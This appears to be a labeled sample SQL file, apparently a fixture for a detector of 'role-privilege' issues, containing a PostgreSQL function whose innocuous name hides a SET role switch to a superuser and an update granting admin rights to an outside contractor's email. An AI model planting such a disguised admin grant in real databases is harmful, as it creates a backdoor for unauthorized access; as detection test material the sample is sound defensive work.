-- class: role-privilege
-- A function whose SET clause switches to a privileged role for the duration of every call.
CREATE FUNCTION refresh_materialized_reports() RETURNS void
LANGUAGE plpgsql
SET role = 'neon_superuser'
AS $$
BEGIN
  UPDATE users SET is_admin = true WHERE email = 'contractor@outside.example';
END
$$;
